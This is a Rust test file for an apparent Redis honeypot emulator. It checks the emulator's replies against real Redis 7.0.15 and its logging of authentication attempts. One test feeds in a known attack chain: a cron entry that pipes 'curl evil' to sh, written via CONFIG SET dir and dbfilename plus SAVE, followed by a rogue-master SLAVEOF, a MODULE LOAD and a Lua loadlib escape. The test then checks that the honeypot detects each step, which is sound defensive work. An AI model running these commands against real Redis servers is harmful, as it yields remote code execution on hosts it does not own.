//! Whole commands against the server: what Debian's redis-server 7.0.15 answered, consistency, older releases.

use std::sync::Arc;

use decnet_core::{Account, FleetSecret, HostPersona, ManualClock, SystemIds};

use super::*;

/// A persona for tests.
pub fn persona(distro: &str) -> HostPersona {
    let account = |login: &str, uid| Account {
        login: login.into(),
        full_name: format!("{login} Example"),
        password: format!("{login}-pw"),
        uid,
        email: format!("{login}@corp.example"),
    };
    HostPersona {
        hostname: "cache-01".into(),
        domain: "corp.example".into(),
        company: "Corp".into(),
        timezone: "UTC".into(),
        distro: distro.into(),
        os_pretty: "Debian GNU/Linux 12 (bookworm)".into(),
        kernel: "6.1.0-28-amd64".into(),
        os_family: "linux".into(),
        boot_offset_s: 100_000,
        accounts: vec![account("anna", 1000), account("bob", 1001)],
    }
}

struct Bench {
    shared: Shared,
    session: Session,
    now: i64,
    facts: Vec<Fact>,
}

impl Bench {
    fn new(distro: &str, settings: &[(&str, &str)]) -> Self {
        let clock = ManualClock::at(chrono::DateTime::from_timestamp(1_790_000_000, 0).unwrap());
        let context = ServiceContext {
            decky: "cache-01".parse().unwrap(),
            persona: Arc::new(persona(distro)),
            host_seed: FleetSecret::from_number(5).seed(),
            seed: FleetSecret::from_number(5).seed().child("redis"),
            settings: settings.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect(),
            bind: vec![],
            root: None,
            artifacts: None,
            mail: crate::mail::Stores::default(),
            shell: None,
            started: chrono::DateTime::from_timestamp(1_790_000_000, 0).unwrap(),
            boot: None,
            clock: Arc::new(clock),
            ids: Arc::new(SystemIds),
        };
        let shared = server(&context).unwrap();
        let authenticated = shared.config.get("requirepass").is_empty();
        Self {
            shared,
            session: Session { id: 9, authenticated, ..Session::default() },
            now: 1_790_000_000_000,
            facts: Vec::new(),
        }
    }

    fn run(&mut self, line: &str) -> String {
        let Parsed::Request(args, _) =
            request::parse(format!("{line}\n").as_bytes(), false, request::COUNT_MAX)
        else {
            panic!("{line}")
        };
        let executed = execute(&mut self.shared, &mut self.session, &args, self.now);
        self.facts.extend(executed.facts);
        let bytes = executed.reply.map(|reply| reply.encode(self.session.resp3)).unwrap_or_default();
        String::from_utf8_lossy(&bytes).replace("\r\n", "|")
    }
}

/// Left: request. Right: reply of the real server, `|` for line ends.
const REAL: &[(&str, &str)] = &[
    ("foo", "-ERR unknown command 'foo', with args beginning with: |"),
    ("FOO bar \"baz x\"", "-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz x' |"),
    ("GET", "-ERR wrong number of arguments for 'get' command|"),
    ("SET a 1 EX 0", "-ERR invalid expire time in 'set' command|"),
    ("SET a 1 EX abc", "-ERR value is not an integer or out of range|"),
    ("SET a 1 ZZ", "-ERR syntax error|"),
    ("INCR x", ":1|"),
    ("SET a abc", "+OK|"),
    ("INCR a", "-ERR value is not an integer or out of range|"),
    ("LPUSH l a b c", ":3|"),
    ("GET l", "-WRONGTYPE Operation against a key holding the wrong kind of value|"),
    ("LRANGE l 0 x", "-ERR value is not an integer or out of range|"),
    ("LRANGE l 0 -1", "*3|$1|c|$1|b|$1|a|"),
    ("HSET h a", "-ERR wrong number of arguments for 'hset' command|"),
    ("HSET h a 1 b 2", ":2|"),
    ("HGETALL h", "*4|$1|a|$1|1|$1|b|$1|2|"),
    (
        "AUTH x",
        "-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?|",
    ),
    ("AUTH u p", "-WRONGPASS invalid username-password pair or user is disabled.|"),
    ("AUTH a b c", "-ERR syntax error|"),
    ("HELLO 4", "-NOPROTO unsupported protocol version|"),
    ("HELLO x", "-ERR Protocol version is not an integer or out of range|"),
    ("CONFIG", "-ERR wrong number of arguments for 'config' command|"),
    ("CONFIG FOO", "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.|"),
    (
        "CONFIG SET dir /tmp",
        "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config|",
    ),
    ("CONFIG SET foo bar", "-ERR Unknown option or number of arguments for CONFIG SET - 'foo'|"),
    ("CONFIG GET save", "*2|$4|save|$23|3600 1 300 100 60 10000|"),
    (
        "CONFIG SET maxmemory abc",
        "-ERR CONFIG SET failed (possibly related to argument 'maxmemory') - argument must be a memory value|",
    ),
    ("CONFIG RESETSTAT", "+OK|"),
    ("CONFIG GET", "-ERR wrong number of arguments for 'config|get' command|"),
    ("SELECT 16", "-ERR DB index is out of range|"),
    ("SELECT abc", "-ERR value is not an integer or out of range|"),
    ("CLIENT", "-ERR wrong number of arguments for 'client' command|"),
    ("CLIENT GETNAME", "$-1|"),
    ("CLIENT SETINFO lib-name x", "-ERR unknown subcommand 'SETINFO'. Try CLIENT HELP.|"),
    ("COMMAND FOO", "-ERR unknown subcommand 'FOO'. Try COMMAND HELP.|"),
    (
        "DEBUG sleep 0",
        "-ERR DEBUG command not allowed. If the enable-debug-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.|",
    ),
    ("EVAL \"return 1\" 0", ":1|"),
    (
        "EVAL \"return redis.call(\" 0",
        "-ERR Error compiling script (new function): user_script:1: unexpected symbol near '<eof>'|",
    ),
    ("EVAL x", "-ERR wrong number of arguments for 'eval' command|"),
    ("EVAL \"return 1\" a", "-ERR value is not an integer or out of range|"),
    ("EVAL \"return 1\" 1", "-ERR Number of keys can't be greater than number of args|"),
    ("EVALSHA aaa 0", "-NOSCRIPT No matching script. Please use EVAL.|"),
    ("SCRIPT LOAD \"return 1\"", "$40|e0e1f9fabfc9d4800c877a703b823ac0578ff8db|"),
    ("MODULE LIST", "*0|"),
    ("MODULE LOAD", "-ERR wrong number of arguments for 'module|load' command|"),
    ("SLAVEOF NO ONE", "+OK|"),
    ("SLAVEOF a b", "-ERR Invalid master port|"),
    ("ROLE", "*3|$6|master|:0|*0|"),
    ("SAVE", "+OK|"),
    ("BGSAVE", "+Background saving started|"),
    ("ECHO hi", "$2|hi|"),
    ("PING hello", "$5|hello|"),
    ("PING a b", "-ERR wrong number of arguments for 'ping' command|"),
    ("TYPE nx", "+none|"),
    ("TTL nx", ":-2|"),
    ("EXPIRE a 100", ":1|"),
    ("TTL a", ":100|"),
    ("PERSIST a", ":1|"),
    ("OBJECT ENCODING a", "$6|embstr|"),
    ("SCAN x", "-ERR invalid cursor|"),
    ("SCAN 0 COUNT x", "-ERR value is not an integer or out of range|"),
    ("SCAN 0 FOO 1", "-ERR syntax error|"),
    ("DEL a nx", ":1|"),
    ("EXISTS l l nx", ":2|"),
    ("FLUSHALL X", "-ERR syntax error|"),
    ("RENAME nx y", "-ERR no such key|"),
    ("MEMORY USAGE nx", "$-1|"),
    ("SLOWLOG GET", "*0|"),
    ("ACL WHOAMI", "$7|default|"),
    ("ACL LIST", "*1|$34|user default on nopass ~* &* +@all|"),
    ("SUBSCRIBE a", "*3|$9|subscribe|$1|a|:1|"),
    (
        "GET a",
        "-ERR Can't execute 'get': only (P|S)SUBSCRIBE / (P|S)UNSUBSCRIBE / PING / QUIT / RESET are allowed in this context|",
    ),
    ("UNSUBSCRIBE", "*3|$11|unsubscribe|$1|a|:0|"),
    ("CLUSTER INFO", "-ERR This instance has cluster support disabled|"),
    ("EXEC", "-ERR EXEC without MULTI|"),
    ("SHUTDOWN NOSAVE X", "-ERR syntax error|"),
    ("RESTORE x 0 abc", "-ERR DUMP payload version or checksum are wrong|"),
    ("SETEX a 0 b", "-ERR invalid expire time in 'setex' command|"),
    ("ZADD z 1 a 2 b", ":2|"),
    ("ZRANGE z 0 -1 WITHSCORES", "*4|$1|a|$1|1|$1|b|$1|2|"),
    ("ZADD z x a", "-ERR value is not a valid float|"),
    ("HSCAN nx 0", "*2|$1|0|*0|"),
    ("INFO foo", "$0||"),
    ("LOLWUT", "$18|Redis ver. 7.0.15\n|"),
    ("RESET", "+RESET|"),
];

#[test]
fn answers_are_the_real_servers() {
    let mut bench = Bench::new("debian", &[("protected_configs", "yes")]);
    for (request, want) in REAL {
        assert_eq!(bench.run(request), *want, "{request}");
    }
}

#[test]
fn keyspace_dbsize_keys_and_scan_agree() {
    let mut bench = Bench::new("debian", &[]);
    let size: usize = bench.run("DBSIZE").trim_matches([':', '|']).parse().unwrap();
    assert!(size >= 8, "{size}");
    assert!(bench.run("KEYS *").starts_with(&format!("*{size}|")));
    assert!(bench.run("INFO keyspace").contains(&format!("db0:keys={size},expires=")));
    assert_eq!(bench.run("SET new 1"), "+OK|");
    assert_eq!(bench.run("DBSIZE"), format!(":{}|", size + 1));
    assert_eq!(bench.run("FLUSHALL"), "+OK|");
    assert_eq!(bench.run("DBSIZE"), ":0|");
    bench.run("SET e 1 PX 10");
    bench.now += 10;
    assert_eq!(bench.run("EXISTS e"), ":0|");
}

#[test]
fn counters_only_grow() {
    let mut bench = Bench::new("debian", &[]);
    let field = |info: &str, name: &str| {
        info.split('|').find_map(|line| line.strip_prefix(&format!("{name}:"))?.parse::<i64>().ok()).unwrap()
    };
    let names = [
        "total_commands_processed",
        "uptime_in_seconds",
        "total_net_input_bytes",
        "total_connections_received",
        "keyspace_hits",
    ];
    let mut last = bench.run("INFO");
    for _ in 0..50 {
        bench.now += 977;
        let next = bench.run("INFO");
        for name in names {
            assert!(field(&next, name) >= field(&last, name), "{name}");
        }
        last = next;
    }
    assert!(field(&last, "uptime_in_seconds") > 99_900);
}

#[test]
fn a_password_is_required_and_every_try_is_a_fact() {
    let mut bench = Bench::new("debian", &[("password", "s3cret")]);
    assert_eq!(bench.run("GET a"), "-NOAUTH Authentication required.|");
    assert!(bench.run("HELLO 3").starts_with("-NOAUTH HELLO must be called"));
    assert_eq!(bench.run("AUTH wrong"), "-WRONGPASS invalid username-password pair or user is disabled.|");
    assert_eq!(bench.run("AUTH default s3cret"), "+OK|");
    assert!(bench.run("HELLO 3").starts_with("%7|$6|server|$5|redis|$7|version|$6|7.0.15|$5|proto|:3|"));
    let tries: Vec<bool> = bench
        .facts
        .iter()
        .filter_map(|fact| if let Fact::Auth { success, .. } = fact { Some(*success) } else { None })
        .collect();
    assert_eq!(tries, [false, true]);
}

#[test]
fn the_cron_trick_is_recorded_step_by_step_on_an_old_release() {
    let mut bench = Bench::new("ubuntu20", &[]);
    assert_eq!(bench.run("SET x \"\\n* * * * * curl evil|sh\\n\""), "+OK|");
    assert_eq!(
        bench.run("CONFIG SET dir /nonexistent"),
        "-ERR Changing directory: No such file or directory|"
    );
    assert_eq!(bench.run("CONFIG SET dir /var/spool/cron"), "+OK|");
    assert_eq!(bench.run("CONFIG SET dbfilename root"), "+OK|");
    assert_eq!(bench.run("CONFIG GET dir"), "*2|$3|dir|$15|/var/spool/cron|");
    assert_eq!(bench.run("SAVE"), "+OK|");
    let dump = bench.facts.iter().find_map(|fact| {
        if let Fact::Dump { path, bytes } = fact {
            Some((path.clone(), String::from_utf8_lossy(bytes).into_owned()))
        } else {
            None
        }
    });
    let (path, bytes) = dump.unwrap();
    assert_eq!(path, "/var/spool/cron/root");
    assert!(bytes.contains("curl evil|sh"));
    bench.run("SLAVEOF 203.0.113.5 8080");
    assert!(bench.run("INFO replication").contains("role:slave|master_host:203.0.113.5"));
    bench.run("MODULE LOAD /tmp/exp.so");
    bench.run("EVAL \"local io_l = package.loadlib('liblua5.1.so.0', 'luaopen_io')\" 0");
    let techniques: Vec<&str> = bench
        .facts
        .iter()
        .filter_map(|fact| if let Fact::Rce { technique, .. } = fact { Some(*technique) } else { None })
        .collect();
    assert_eq!(
        techniques,
        [
            "config_dir",
            "config_dir",
            "config_dbfilename",
            "file_write",
            "rogue_master",
            "module_load",
            "lua_escape"
        ]
    );
}

#[test]
fn transactions_queue_and_abort() {
    let mut bench = Bench::new("debian", &[]);
    assert_eq!(bench.run("MULTI"), "+OK|");
    assert_eq!(bench.run("SET t 5"), "+QUEUED|");
    assert_eq!(bench.run("INCR t"), "+QUEUED|");
    assert_eq!(bench.run("EXEC"), "*2|+OK|:6|");
    bench.run("MULTI");
    bench.run("NOPE");
    assert_eq!(bench.run("EXEC"), "-EXECABORT Transaction discarded because of previous errors.|");
}

#[test]
fn memory_is_bounded() {
    let mut bench = Bench::new("debian", &[]);
    let value = "x".repeat(60_000);
    let last = (0..400).map(|at| bench.run(&format!("SET big{at} {value}"))).last().unwrap();
    assert_eq!(last, "-OOM command not allowed when used memory > 'maxmemory'.|");
    assert!(bench.shared.store.bytes() < store::BYTES_MAX + 70_000);
}

#[test]
fn every_listed_command_is_answered() {
    let mut bench = Bench::new("debian", &[]);
    for line in include_str!("commands.tsv").lines() {
        let mut columns = line.split('\t');
        let (name, arity) = (columns.next().unwrap(), columns.next().unwrap().parse::<usize>().unwrap_or(1));
        let request = format!("{name} {}", "1 ".repeat(arity.saturating_sub(1).max(2)));
        let reply = bench.run(&request);
        assert!(!reply.contains("unknown command"), "{request}: {reply}");
        bench.session = Session { id: 9, authenticated: true, ..Session::default() };
    }
}

proptest::proptest! {
    #[test]
    fn any_arguments_are_survived(at in 0usize..160, args in proptest::collection::vec(proptest::collection::vec(proptest::prelude::any::<u8>(), 0..8), 0..5)) {
        let mut bench = Bench::new("debian", &[]);
        let names: Vec<&str> = include_str!("commands.tsv").lines().filter_map(|line| line.split('\t').next()).collect();
        let mut words = vec![names[at % names.len()].as_bytes().to_vec()];
        words.extend(args);
        let executed = execute(&mut bench.shared, &mut bench.session, &words, bench.now);
        let _ = executed.reply.map(|reply| reply.encode(true));
    }
}
